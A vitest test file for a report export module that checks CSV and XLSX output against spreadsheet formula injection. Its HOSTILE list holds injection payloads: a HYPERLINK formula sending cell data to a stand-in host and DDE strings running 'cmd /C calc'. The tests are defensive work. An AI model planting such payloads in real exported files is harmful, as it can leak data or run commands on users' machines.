import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { toCsv, toXlsx } from '../../../src/services/reports/exports.ts';
import type { Table } from '../../../src/services/reports/tables.ts';

const HOSTILE = [
  '=HYPERLINK("http://exemple.test/?x="&A1;"Cliquez")',
  '+33 6 12 34 56 78',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const table: Table = {
  name: 'Écarts',
  columns: [
    { header: 'Boisson', key: 'name' },
    { header: 'Écart', key: 'difference', kind: 'number' },
  ],
  rows: [
    ...HOSTILE.map((name, i) => ({ name, difference: -i - 1 })),
    { name: 'Chablis 1er Cru — 75 cl', difference: -1.5 },
  ],
};

describe('formula injection in exports', () => {
  it('CSV: a name a spreadsheet would run as a formula starts with an apostrophe; numbers and plain names stay', () => {
    const text = toCsv(table)
      .toString('utf8')
      .replace(/^\uFEFF/, '');
    const cells = text
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.split(';')[0] ?? '');
    for (const cell of cells.slice(0, HOSTILE.length)) expect(cell.replace(/^"/, '')).toMatch(/^'/);
    expect(cells.at(-1)).toBe('Chablis 1er Cru — 75 cl');
    expect(text).toContain(';-1,5\r\n');
  });

  it('XLSX: the same names are text cells starting with an apostrophe, never formulas; numbers stay numbers', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await toXlsx([table])) as unknown as ArrayBuffer);
    const ws = wb.worksheets[0];
    if (!ws) throw new Error('no sheet');
    HOSTILE.forEach((name, i) => {
      const cell = ws.getRow(i + 2).getCell(1);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      // XML reads a carriage return back as a line feed.
      expect(cell.value).toBe(`'${name}`.replace('\r', '\n'));
      expect(ws.getRow(i + 2).getCell(2).value).toBe(-i - 1);
    });
    expect(ws.getRow(HOSTILE.length + 2).getCell(1).value).toBe('Chablis 1er Cru — 75 cl');
  });
});
